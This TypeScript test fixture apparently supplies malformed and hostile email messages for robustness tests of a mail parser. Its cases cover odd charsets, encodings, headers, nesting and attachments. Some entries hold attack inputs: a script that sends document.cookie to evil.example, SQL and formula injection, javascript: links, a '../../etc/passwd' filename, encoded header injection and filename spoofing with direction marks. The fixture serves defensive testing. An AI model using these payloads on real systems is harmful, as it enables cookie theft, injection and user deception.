import { base64, bytes, head, latin, multi, plain } from './made.ts';

/** A letter that is broken or odd, and words that must come out of it (in its text, or anywhere in what was read). */
export interface Odd {
  readonly name: string;
  readonly raw: Uint8Array;
  readonly says?: string;
}

const words = 'I was pushed in room D';
const odd = (name: string, raw: Uint8Array | string, says: string | null = words): Odd => ({
  name,
  raw: typeof raw === 'string' ? bytes(raw) : raw,
  ...(says === null ? {} : { says }),
});

/** The words under this head, as they stand. */
const under = (fields: Readonly<Record<string, string>>, body: string | Uint8Array = `${words}.`): Uint8Array =>
  Buffer.concat([bytes(`${head(fields)}\r\n`), typeof body === 'string' ? bytes(body) : body]);

const inLatin = (...codes: readonly number[]): Uint8Array => Uint8Array.from(codes);

function charsets(): readonly Odd[] {
  const said = (name: string, charset: string, body: Uint8Array, says: string): readonly Odd[] => [
    odd(
      `${name}, eight bits`,
      under({ 'Content-Type': `text/plain; charset=${charset}`, 'Content-Transfer-Encoding': '8bit' }, body),
      says,
    ),
    odd(
      `${name}, base64`,
      under(
        { 'Content-Type': `text/plain; charset="${charset}"`, 'Content-Transfer-Encoding': 'base64' },
        base64(body),
      ),
      says,
    ),
    odd(
      `${name}, in the subject`,
      under({ Subject: `=?${charset}?B?${Buffer.from(body).toString('base64')}?=` }, 'x'),
      says,
    ),
  ];
  return [
    ...said('ISO-2022-JP', 'iso-2022-jp', inLatin(0x1b, 0x24, 0x42, 0x24, 0x33, 0x24, 0x73, 0x1b, 0x28, 0x42), 'こん'),
    ...said('Shift_JIS', 'Shift_JIS', inLatin(0x82, 0xb1, 0x82, 0xf1), 'こん'),
    ...said('cp932', 'cp932', inLatin(0x82, 0xb1, 0x82, 0xf1), 'こん'),
    ...said('EUC-JP', 'EUC-JP', inLatin(0xa4, 0xb3, 0xa4, 0xf3), 'こん'),
    ...said('gb18030', 'gb18030', inLatin(0xb1, 0xa8, 0xb8, 0xe6), '报告'),
    ...said('GB2312', 'gb2312', inLatin(0xb1, 0xa8, 0xb8, 0xe6), '报告'),
    ...said('Big5', 'big5', inLatin(0xb3, 0xf8, 0xa7, 0x69), '報告'),
    ...said('EUC-KR', 'ks_c_5601-1987', inLatin(0xba, 0xb8, 0xb0, 0xed), '보고'),
    ...said('KOI8-R', 'koi8-r', inLatin(0xd0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4), 'привет'),
    ...said('Windows-1251', 'windows-1251', inLatin(0xef, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2), 'привет'),
    ...said('Windows-1252', 'windows-1252', inLatin(0x93, 0x63, 0x61, 0x66, 0xe9, 0x94), '“café”'),
    ...said('Windows-1256', 'windows-1256', inLatin(0xe3, 0xd1, 0xcd, 0xc8, 0xc7), 'مرحبا'),
    ...said('Windows-1255', 'windows-1255', inLatin(0xf9, 0xec, 0xe5, 0xed), 'שלום'),
    ...said('ISO-8859-2', 'iso-8859-2', inLatin(0xbe, 0x6c, 0x75, 0xbb), 'žluť'),
    ...said('ISO-8859-7', 'iso-8859-7', inLatin(0xe3, 0xe5, 0xe9, 0xdc), 'γειά'),
    ...said('ISO-8859-15', 'iso-8859-15', inLatin(0x63, 0xbd, 0x75, 0x72, 0xa4), 'cœur€'),
    ...said('TIS-620', 'tis-620', inLatin(0xca, 0xc7, 0xd1, 0xca), 'สวัส'),
    odd('UTF-7', under({ 'Content-Type': 'text/plain; charset=utf-7' }, 'caf+AOk- 1+-1'), 'café 1+1'),
    odd('HZ', under({ 'Content-Type': 'text/plain; charset=hz-gb-2312' }, '~{1(8f~}'), '报告'),
    odd(
      'ISO-2022-KR',
      under({ 'Content-Type': 'text/plain; charset=iso-2022-kr' }, '\u001b$)C\n\u000e:80m\u000f'),
      '보고',
    ),
    odd(
      'UTF-16LE in base64',
      under(
        { 'Content-Type': 'text/plain; charset=utf-16le', 'Content-Transfer-Encoding': 'base64' },
        Buffer.from(words, 'utf16le').toString('base64'),
      ),
    ),
    odd(
      'UTF-8 called US-ASCII',
      under({ 'Content-Type': 'text/plain; charset=us-ascii' }, 'el café está'),
      'el café está',
    ),
    odd('UTF-8 called Latin-1', under({ 'Content-Type': 'text/plain; charset=iso-8859-1' }, 'niño 😕'), 'niño 😕'),
    odd('Latin-1 called UTF-8', under({ 'Content-Type': 'text/plain; charset=utf-8' }, latin('el café')), 'el café'),
    odd(
      'Latin-1 called UTF-8, quoted-printable',
      under(
        { 'Content-Type': 'text/plain; charset=utf-8', 'Content-Transfer-Encoding': 'quoted-printable' },
        'el caf=E9',
      ),
      'el café',
    ),
    odd('Latin-1 called nothing', under({}, latin('el café')), 'el café'),
    odd('Latin-1 called nothing, with a type', under({ 'Content-Type': 'text/plain' }, latin('el café')), 'el café'),
    odd(
      'Latin-1 and UTF-8 in one text',
      under({}, Buffer.concat([latin('el café\r\n'), bytes('está aquí')])),
      'está aquí',
    ),
    odd('a charset nobody knows', under({ 'Content-Type': 'text/plain; charset=x-moon' })),
    odd('a charset with a comment', under({ 'Content-Type': 'text/plain; charset=utf-8 (really)' })),
    odd('an empty charset', under({ 'Content-Type': 'text/plain; charset=""' })),
    odd(
      'raw Latin-1 in the subject',
      Buffer.concat([latin('Subject: el café\r\nFrom: a@b.example\r\n\r\n'), bytes(words)]),
      'el café',
    ),
    odd(
      'raw KOI8-R in the subject, named by the body',
      Buffer.concat([
        bytes('From: a@b.example\r\nSubject: '),
        inLatin(0xd0, 0xd2, 0xc9),
        bytes('\r\nContent-Type: text/plain; charset=koi8-r\r\n\r\nx'),
      ]),
      'при',
    ),
    odd('raw UTF-8 in the subject', bytes(`Subject: está 😕\r\n\r\n${words}`), 'está 😕'),
  ];
}

function encodings(): readonly Odd[] {
  const coded = (encoding: string, body: string): Uint8Array =>
    under({ 'Content-Type': 'text/plain; charset=utf-8', 'Content-Transfer-Encoding': encoding }, body);
  return [
    odd('quoted-printable with soft breaks', coded('quoted-printable', 'I was pu=\r\nshed in =\r\nroom D=2E')),
    odd('quoted-printable, broken in a sign', coded('quoted-printable', 'caf=C3=\r\n=A9'), 'café'),
    odd('quoted-printable with a lone =', coded('quoted-printable', `${words} = yes =ZZ`)),
    odd('quoted-printable in small letters', coded('quoted-printable', 'caf=c3=a9'), 'café'),
    odd('quoted-printable that ends in =', coded('quoted-printable', `${words}=`)),
    odd('base64 without padding', coded('base64', base64(words).replace(/=+$/u, ''))),
    odd('base64 with spaces and a line of its own after it', coded('base64', `${base64(words)}\r\n\r\n`)),
    odd('base64 in one line of any length', coded('base64', Buffer.from(`${words}. `.repeat(5000)).toString('base64'))),
    odd('base64 with signs that are none', coded('base64', `!!${base64(words)}!!`), null),
    odd('said to be base64 and is not', coded('base64', words), null),
    odd('an encoding nobody knows', coded('x-uuencode', words)),
    odd('an encoding with a comment', coded('(plain) 7bit', words)),
    odd('an encoding in quotes', coded('"base64"', base64(words))),
    odd(
      'an encoding twice',
      bytes(`${head({ 'Content-Transfer-Encoding': '7bit' })}Content-Transfer-Encoding: base64\r\n\r\n${words}`),
    ),
    odd('binary with NUL', under({ 'Content-Transfer-Encoding': 'binary' }, `I was\0 pushed in \0room D`)),
    odd('yEnc', under({}, `=ybegin line=128 size=3 name=a\r\n${words}\r\n=yend size=3`)),
    odd('uuencoded within the text', under({}, `${words}\r\nbegin 644 a.txt\r\n#0V%T\r\n\`\r\nend`)),
  ];
}

function headFields(): readonly Odd[] {
  const raw = (name: string, text: string, says: string | null = words): Odd => odd(name, text, says);
  return [
    raw('nothing', '', null),
    raw('one empty line', '\r\n', null),
    raw('many empty lines', '\r\n'.repeat(500), null),
    raw('empty lines before the head', `\r\n\r\n\r\nSubject: x\r\n\r\n${words}`),
    raw('a mark of bytes before the head', `\ufeffSubject: hello there\r\n\r\n${words}`, 'hello there'),
    raw(
      'a line of a mailbox file before the head',
      `From ito@mail.example Sun May 16 13:41:00 2027\nSubject: x\n\n${words}`,
    ),
    raw('no fields', words),
    raw('no fields, and a line like one', `Note: ${words}\n\nmore`),
    raw('only a body', `\r\n${words}`),
    raw('only a head', head(), 'Something that happened'),
    raw('a head with no end', head().trimEnd(), 'Something that happened'),
    raw('ends with LF', `Subject: x\n\n${words}\n`),
    raw('ends with CR', `Subject: x\r\r${words}\r`),
    raw('ends of every kind', `Subject: x\r\nTo: a@b.example\n\r\n${words}\r\n`),
    raw('CR CR LF', `Subject: x\r\r\nTo: a@b.example\r\r\n\r\r\n${words}`, null),
    raw('a field with no name', `${head()}: nothing\r\n\r\n${words}`),
    raw('a field with no colon', `${head()}stray words here\r\n\r\n${words}`, 'stray words here'),
    raw(
      'a stray line amid the fields',
      `From: a@b.example\r\nstray words here\r\nSubject: x\r\nContent-Type: text/plain\r\n\r\n${words}`,
      'stray words here',
    ),
    raw('text at once under the fields', `${head()}${words}\r\n`),
    raw('a folded first line', ` folded\r\n${head()}\r\n${words}`),
    raw('a field folded ten thousand times', `${head()}X-Long: a\r\n${' b\r\n'.repeat(10_000)}\r\n${words}`),
    raw('a field of one megabyte', `${head()}X-Long: ${'a'.repeat(1_000_000)}\r\n\r\n${words}`),
    raw(
      'three megabytes of fields',
      `${head()}${`X-A: ${'a'.repeat(980)}\r\n`.repeat(3100)}\r\n${words}`,
      'Something that happened',
    ),
    raw(
      'ten thousand recipients',
      `To: ${Array.from({ length: 10_000 }, (_, n) => `p${n}@mail.example`).join(',\r\n ')}\r\n${head({ To: '' })}\r\n${words}`,
    ),
    raw('ten thousand fields', `${'X-A: b\r\n'.repeat(10_000)}${head()}\r\n${words}`),
    raw('two Froms', `From: one@a.example\r\nFrom: two@b.example\r\n${head({ From: '' })}\r\n${words}`),
    raw('every field twice', `${head()}${head({ From: 'Bo <bo@b.example>', Subject: 'Another' })}\r\n${words}`),
    raw('no From', `${head({ From: '' })}\r\n${words}`),
    raw('an empty From', `From:\r\n${head({ From: '' })}\r\n${words}`),
    raw('From without an address', `${head({ From: 'Ito in row six' })}\r\n${words}`, 'Ito in row six'),
    raw('From with only brackets', `${head({ From: '<>' })}\r\n${words}`),
    raw('From that never closes', `${head({ From: '"Ito <ito@mail.example' })}\r\n${words}`),
    raw('From with a comment', `${head({ From: 'ito@mail.example (Ito (of row 6))' })}\r\n${words}`),
    raw('From with a group', `${head({ From: 'Row six: ito@mail.example, bo@mail.example;' })}\r\n${words}`),
    raw(
      'From with an encoded address in its name',
      `${head({ From: '=?utf-8?B?YUBiLmV4YW1wbGU=?= <ito@mail.example>' })}\r\n${words}`,
    ),
    raw(
      'From with a line break that is encoded',
      `${head({ From: '=?utf-8?Q?Ito=0D=0ABcc:_x=40y.example?= <ito@mail.example>' })}\r\n${words}`,
    ),
    raw('From with directions', `${head({ From: '\u202eelpmaxe.liam@oti <ito@mail.example>' })}\r\n${words}`),
    raw(
      'From in 200 nested comments',
      `${head({ From: `${'('.repeat(200)}x${')'.repeat(200)} ito@mail.example` })}\r\n${words}`,
    ),
    raw('From of 50,000 commas', `${head({ From: ','.repeat(50_000) })}\r\n${words}`),
    raw('From of 50,000 quotes', `${head({ From: '"'.repeat(50_000) })}\r\n${words}`),
    raw('From of 50,000 brackets', `${head({ From: '<'.repeat(50_000) })}\r\n${words}`),
    raw(
      'a subject with a line break that is encoded',
      `${head({ Subject: '=?utf-8?Q?x=0D=0ABcc:_all=40b.example?=' })}\r\n${words}`,
    ),
    raw(
      'a subject in words cut within a sign',
      `${head({ Subject: '=?utf-8?B?w6k=?= =?utf-8?B?4pg=?= =?utf-8?B?uQ==?=' })}\r\n${words}`,
    ),
    raw('a subject in a word that never ends', `${head({ Subject: '=?utf-8?Q?never' })}\r\n${words}`),
    raw('a subject of 10,000 words', `${head({ Subject: '=?utf-8?Q?x?= '.repeat(10_000) })}\r\n${words}`),
    raw('a subject with a language (RFC 2231)', `${head({ Subject: '=?utf-8*es?Q?caf=C3=A9?=' })}\r\n${words}`, 'café'),
    raw('a subject of 1 MB', `${head({ Subject: 'x'.repeat(1_000_000) })}\r\n${words}`),
    raw('a subject with NUL', `${head({ Subject: 'a\0b' })}\r\n${words}`),
    raw('a date that is none', `${head({ Date: 'yesterday, I think' })}\r\n${words}`),
    raw('a date in the year 99999', `${head({ Date: 'Sun, 16 May 99999 13:41:00 +0000' })}\r\n${words}`),
    raw(
      'a date with a zone in words',
      `${head({ Date: 'Sun, 16 May 2027 13:41:00 -0400 (Eastern (Summer) Time)' })}\r\n${words}`,
    ),
    raw('a Message-ID without brackets', `${head({ 'Message-ID': 'one@mail.example' })}\r\n${words}`),
    raw('a Message-ID with spaces', `${head({ 'Message-ID': '< one @mail.example >' })}\r\n${words}`),
    raw('a Message-ID of 100 kB', `${head({ 'Message-ID': `<${'a'.repeat(100_000)}@b.example>` })}\r\n${words}`),
    raw(
      '10,000 references',
      `${head({ References: Array.from({ length: 10_000 }, (_, n) => `<${n}@b.example>`).join('\r\n ') })}\r\n${words}`,
    ),
    raw('a field named __proto__', `__proto__: x\r\nconstructor: y\r\n${head()}\r\n${words}`),
    raw('a field name with a NO-BREAK SPACE', `\u00a0From: evil@b.example\r\n${head()}\r\n${words}`),
    raw(
      'script and formula in every field',
      `${head({ From: '<script>alert(1)</script> <ito@mail.example>', Subject: '=HYPERLINK("http://evil.example")' })}\r\n<script>x</script> ${words}`,
    ),
  ];
}

function nested(depth: number, inner: string): string {
  let body = inner;
  for (let level = 0; level < depth; level++) {
    body = `Content-Type: multipart/mixed; boundary="b${level}"\r\n\r\n--b${level}\r\n${body}\r\n--b${level}--\r\n`;
  }
  return body;
}

function parts(): readonly Odd[] {
  const many = (type: string, body: string): Uint8Array => under({ 'Content-Type': type }, body);
  const part = `--x\r\nContent-Type: text/plain\r\n\r\n${words}\r\n`;
  return [
    odd('a boundary that is missing', many('multipart/mixed', `${part}--x--`)),
    odd('a boundary that is empty', many('multipart/mixed; boundary=""', `${part}--x--`)),
    odd('a boundary that is another', many('multipart/mixed; boundary=y', `${part}--x--`)),
    odd('a boundary that nothing uses', many('multipart/mixed; boundary=y', words)),
    odd('no boundary and no parts', many('multipart/alternative', words)),
    odd('a boundary that never closes', many('multipart/mixed; boundary=x', part)),
    odd('a boundary that closes twice', many('multipart/mixed; boundary=x', `${part}--x--\r\n--x--`)),
    odd(
      'a boundary with spaces after it',
      many('multipart/mixed; boundary=x', `--x  \t\r\nContent-Type: text/plain\r\n\r\n${words}\r\n--x--`),
    ),
    odd(
      'a boundary with odd signs',
      many('multipart/mixed; boundary="(x)=_?+/:,."', `--(x)=_?+/:,.\r\n\r\n${words}\r\n--(x)=_?+/:,.--`),
    ),
    odd('a boundary with a comment', many('multipart/mixed; boundary=x (well)', `${part}--x--`)),
    odd('a boundary twice', many('multipart/mixed; boundary=x; boundary=y', `${part}--x--`)),
    odd(
      'a boundary in a second Content-Type',
      bytes(`${head({ 'Content-Type': 'multipart/mixed; boundary=x' })}Content-Type: text/plain\r\n\r\n${part}--x--`),
    ),
    odd(
      'a boundary that is the beginning of another',
      many(
        'multipart/mixed; boundary=x',
        `--x\r\nContent-Type: multipart/mixed; boundary=xx\r\n\r\n--xx\r\n\r\n${words}\r\n--xx--\r\n--x--`,
      ),
    ),
    odd(
      'a boundary of 5,000 signs',
      many(`multipart/mixed; boundary="${'b'.repeat(5000)}"`, `--${'b'.repeat(5000)}\r\n\r\n${words}`),
    ),
    odd('a part with no head', many('multipart/mixed; boundary=x', `--x\r\n\r\n${words}\r\n--x--`)),
    odd(
      'a part with no empty line',
      many('multipart/mixed; boundary=x', `--x\r\nContent-Type: text/plain\r\n--x\r\n\r\n${words}\r\n--x--`),
    ),
    odd('parts that are empty', many('multipart/mixed; boundary=x', `${'--x\r\n'.repeat(2000)}${part}--x--`)),
    odd(
      'ten thousand parts',
      many(
        'multipart/mixed; boundary=x',
        `${part}${'--x\r\nContent-Type: image/png\r\n\r\na\r\n'.repeat(10_000)}--x--`,
      ),
    ),
    odd('parts in parts, 100 deep', `${head()}${nested(100, `Content-Type: text/plain\r\n\r\n${words}`)}`),
    odd('parts in parts, 500 deep', `${head()}${nested(500, `Content-Type: text/plain\r\n\r\n${words}`)}`),
    odd(
      'parts in parts, 2000 deep',
      `${head()}${nested(2000, `Content-Type: text/plain\r\n\r\n${words}`)}`,
      'Something that happened',
    ),
    odd(
      'a hundred boundaries of one name',
      many(
        'multipart/mixed; boundary=x',
        `${'--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n'.repeat(100)}--x\r\n\r\n${words}`,
      ),
    ),
    odd(
      'letters in letters, 5 deep',
      `${head()}${'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n'.repeat(5)}\r\n${words}`,
    ),
    odd(
      'letters in letters, 60 deep',
      `${head()}${'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n'.repeat(60)}\r\n${words}`,
      'Something that happened',
    ),
    odd(
      'a letter in a letter in base64',
      under(
        { 'Content-Type': 'message/rfc822', 'Content-Transfer-Encoding': 'base64' },
        base64(`Subject: inner\r\n\r\n${words}`),
      ),
    ),
    odd('a digest', many('multipart/digest; boundary=x', `--x\r\n\r\nSubject: inner\r\n\r\n${words}\r\n--x--`)),
    odd(
      'an alternative with an empty plain part',
      multi('multipart/alternative', [
        ['text/plain', ' \r\n'],
        ['text/html', `<p>${words}</p>`],
      ]),
    ),
    odd(
      'an alternative with a stub for a plain part',
      multi('multipart/alternative', [
        ['text/plain', 'Your program shows no HTML.'],
        ['text/html', `<p>${words}</p>${'<p>And a good deal more of it than that.</p>'.repeat(20)}`],
      ]),
    ),
    odd('an alternative of HTML alone', multi('multipart/alternative', [['text/html', `<p>${words}</p>`]])),
    odd(
      'an alternative with the HTML first',
      multi('multipart/alternative', [
        ['text/html', `<p>${words}</p>`],
        ['text/plain', words],
      ]),
    ),
    odd(
      'plain text beside HTML, no alternative',
      multi('multipart/mixed', [
        ['text/plain', 'First.'],
        ['text/html', `<p>${words}</p>`],
      ]),
    ),
    odd(
      'related without a root',
      multi('multipart/related', [
        ['image/png\r\nContent-ID: <a>', 'x'],
        ['text/html', `<p>${words}</p><img src=cid:a>`],
      ]),
    ),
    odd('a kind of multipart nobody knows', multi('multipart/x-moon', [['text/plain', words]])),
    odd(
      'a kind of text nobody knows',
      multi('multipart/mixed', [
        ['text/plain', words],
        ['text/x-moon', 'kept'],
      ]),
    ),
    odd('a type that is no type', under({ 'Content-Type': 'words' }), words),
    odd('a type that is empty', under({ 'Content-Type': ';' }), null),
    odd('a type of 100,000 parameters', under({ 'Content-Type': `text/plain${'; a=b'.repeat(100_000)}` })),
    odd('a type with 50,000 open comments', under({ 'Content-Type': `text/plain ${'('.repeat(50_000)}` })),
    odd(
      'text said to be a file',
      multi('multipart/mixed', [['text/plain\r\nContent-Disposition: attachment; filename=a.txt', words]]),
      null,
    ),
    odd('a letter that is one picture', under({ 'Content-Type': 'image/png; name=a.png' }, 'x'), null),
    odd('a preamble and an epilogue', many('multipart/mixed; boundary=x', `before\r\n${part}--x--\r\nafter`)),
    odd(
      'signed',
      multi('multipart/signed; protocol="application/pgp-signature"', [
        ['text/plain', words],
        ['application/pgp-signature', 'sig'],
      ]),
    ),
    odd(
      'a part of a letter sent in parts',
      under({ 'Content-Type': 'message/partial; number=1; total=3; id="a@b"' }),
      null,
    ),
    odd(
      'a letter that lies elsewhere',
      under({ 'Content-Type': 'message/external-body; access-type=URL; URL="http://evil.example/a"' }),
      null,
    ),
    odd(
      'the end cut off in base64',
      Buffer.from(
        multi('multipart/mixed', [
          ['text/plain', words],
          ['application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64', base64('x'.repeat(5000))],
        ]),
      ).subarray(0, 3000),
    ),
  ];
}

function html(): readonly Odd[] {
  const rich = (name: string, text: string, says: string | null = words): Odd =>
    odd(`HTML: ${name}`, under({ 'Content-Type': 'text/html; charset=utf-8' }, text), says);
  return [
    rich('tags that never close', `<p>${words}<b><i><u><div><span`),
    rich('50,000 open tags', `${'<div>'.repeat(50_000)}${words}`),
    rich('50,000 open brackets', `${'<'.repeat(50_000)} ${words}`),
    rich('50,000 quotes in quotes', `${'<blockquote>'.repeat(50_000)}${words}`),
    rich('50,000 comments that never close', `${'<!--'.repeat(50_000)}${words}`),
    rich('50,000 scripts that never close', `${'<script>'.repeat(50_000)}${words}`),
    rich('50,000 links that never close', `${'<a href=x>'.repeat(50_000)}${words}`),
    rich('a script', `<script>alert("no")</script>${words}`),
    rich('a style amid the text', `<style>p { color: red }</style>${words}<style>b{}</style>`),
    rich('no body', `<html><head><title>t</title></head>${words}</html>`),
    rich('two bodies', `<body>first</body><body>${words}</body>`),
    rich('broken entities', `${words} &am &#xffffffff; &#0; &unknown; &lt;b&gt;`),
    rich('in capitals', `<HTML><BODY><P>${words}</P></BODY></HTML>`),
    rich('a quote in an attribute', `<a title="a > b" href='x'>${words}</a>`),
    rich('white on white', `<span style="color:#fff;font-size:0">${words}</span>`),
    rich('a table', `<table><tr><td>I was pushed</td><td>in room D</td></tr></table>`),
    rich('only a picture from elsewhere', '<img src="http://evil.example/x.png">', null),
    rich('only a picture with words for it', `<img alt="${words}" src=x>`),
    rich(
      'conditional comments',
      `<!--[if mso]><p>Outlook</p><![endif]-->${words}<!--[if !mso]><!--><p>more</p><!--<![endif]-->`,
    ),
    rich('an address that runs', `<a href="javascript:alert(1)">${words}</a>`),
    rich('nothing', '', null),
    rich('plain text', words),
    rich('a frame', `<iframe src="http://evil.example"></iframe>${words}`),
    rich('one megabyte in one line', `<p>${`${words}. `.repeat(40_000)}</p>`),
  ];
}

function files(): readonly Odd[] {
  const named = (name: string, fieldsOf: string, body = 'x'): Odd =>
    odd(
      `file: ${name}`,
      multi('multipart/mixed', [
        ['text/plain', words],
        [fieldsOf, body],
      ]),
    );
  const disposition = (value: string): string =>
    `application/octet-stream\r\nContent-Disposition: attachment; ${value}`;
  return [
    named('no name', disposition('x=y')),
    named('an empty name', disposition('filename=""')),
    named('a path', disposition('filename="../../etc/passwd"')),
    named('a path of Windows', disposition('filename="C:\\\\temp\\\\a.exe"')),
    named('only dots', disposition('filename="..."')),
    named('a name of a device', disposition('filename="CON.txt"')),
    named('directions', disposition('filename="\u202egnp.exe"')),
    named('a line break in it', disposition('filename="=?utf-8?Q?a=0D=0Ab.txt?="')),
    named('RFC 2231', disposition("filename*=utf-8''caf%C3%A9.pdf")),
    named('RFC 2231 in pieces', disposition("filename*0*=utf-8''caf%C3; filename*1*=%A9.p; filename*2=df")),
    named('RFC 2231, pieces missing', disposition("filename*0*=utf-8''a; filename*7=b")),
    named('RFC 2231, broken signs', disposition("filename*=utf-8''%ZZ%C3.pdf")),
    named('RFC 2047 in a parameter', disposition('filename="=?utf-8?B?Y2Fmw6kucGRm?="')),
    named('a name of 10,000 signs', disposition(`filename="${'a'.repeat(10_000)}.pdf"`)),
    named('NUL in it', disposition('filename="a\0.pdf"')),
    named('raw UTF-8 in it', disposition('filename="café.pdf"')),
    named('two dispositions', `${disposition('filename=a.pdf')}\r\nContent-Disposition: inline; filename=b.exe`),
    named('nothing in it', disposition('filename=empty.txt'), ''),
    named(
      'HTML called PNG',
      'image/png; name=picture.png\r\nContent-Disposition: attachment',
      '<html><script>1</script></html>',
    ),
    named(
      'a bomb in an archive',
      'application/zip; name=notes.zip\r\nContent-Transfer-Encoding: base64',
      base64(Uint8Array.from({ length: 4000 }, () => 0x50)),
    ),
    named('a type with a script in it', '<script>/x; name=a'),
    named('a calendar that is broken', 'text/calendar; charset=moon', 'BEGIN:VCALENDAR'),
    named('winmail that is broken', 'application/ms-tnef; name=winmail.dat', 'x'),
  ];
}

function texts(): readonly Odd[] {
  const text = (name: string, body: string, says: string | null = words): Odd =>
    odd(`text: ${name}`, plain(body), says);
  return [
    text('one line of one megabyte', `${words} ${'a'.repeat(1_000_000)}`),
    text('one megabyte of spaces', `${words}${' '.repeat(1_000_000)}.`),
    text('a hundred thousand lines', `${words}\n${'a\n'.repeat(100_000)}`),
    text('a hundred thousand quotes', `${words}\n${'> a\n'.repeat(100_000)}`),
    text(
      'a hundred thousand lines that end like “wrote:”',
      `${words}\n${'On 1 May 2027 at 10:00 a <a@b.example> wrote:\n'.repeat(20_000)}`,
    ),
    text('a hundred thousand signatures', `${words}\n${'-- \n'.repeat(100_000)}`),
    text('ten thousand heads', `${words}\n${'From: a\nSent: b\nSubject: c\n'.repeat(10_000)}`),
    text(
      'ten thousand letters passed on',
      `${words}\n${'---------- Forwarded message ---------\nFrom: a\nSubject: b\n\nc\n'.repeat(10_000)}`,
    ),
    text('quotes 5,000 deep', `${words}\n${'>'.repeat(5000)} a`),
    text('only a quote', `> ${words}`),
    text('only a signature', `-- \n${words}`),
    text('only a mark of passing on', `---------- Forwarded message ---------\n${words}`),
    text('control signs', `I was\u0007 pushed\u001b[31m in room D`, null),
    text('directions', `\u202egnp.exe\u202c ${words}`),
    text('half a sign', `${words} \ud83d`),
    text('signs of no plane', `${words} \u{10ffff}\u{e0001}`),
    text('20,000 marks on one letter', `${words} a${'\u0301'.repeat(20_000)}`),
    text(
      'S23',
      `<script>fetch('//evil.example/'+document.cookie)</script> '; DROP TABLE reports;-- =HYPERLINK("http://evil.example","open") \u202egnp.exe\u202c {{constructor.constructor('x')()}} Ω≈ç√ 👩‍👩‍👧‍👦 ﷽ ${words}`,
    ),
    text('lines with LINE SEPARATOR', `I was pushed in room D\u2028next\u2029last`),
    text('From_ that a mailbox file changed', `>From the start: ${words}`),
  ];
}

/** Each of them is read without a throw, within a second or so. */
export const oddLetters: readonly Odd[] = [
  ...charsets(),
  ...encodings(),
  ...headFields(),
  ...parts(),
  ...html(),
  ...files(),
  ...texts(),
];
